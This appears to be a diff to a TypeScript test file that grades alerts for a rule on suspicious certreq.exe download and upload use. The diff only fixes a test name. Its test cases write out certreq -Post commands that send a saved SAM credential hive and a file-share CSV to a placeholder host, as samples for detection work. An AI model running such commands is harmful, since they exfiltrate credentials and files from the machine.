@@ -6,7 +6,7 @@ const CERTREQ = 'C:\\Windows\\System32\\certreq.exe';
 const grade = (x: Partial<TriageInput>): ReturnType<typeof triage> =>
   triage({ ruleId: 'certreq-download-upload', ruleTitle: 'Suspicious Certreq Command to Download or Upload', ruleLevel: 'high', image: CERTREQ, originalFileName: 'CertReq.exe', ...x });
 
-test('the the README severity table table, row by row', () => {
+test('the README severity table, row by row', () => {
   const cases: Array<[Partial<TriageInput>, string, string]> = [
     [{ commandLine: 'certreq -Post -config https://x.example/u C:\\Users\\Public\\sam.save' }, 'critical', 'post_sensitive_exfil'],
     [{ commandLine: 'certreq -Post -config https://x.example/u \\\\fs01\\share\\a.csv' }, 'critical', 'post_sensitive_exfil'],
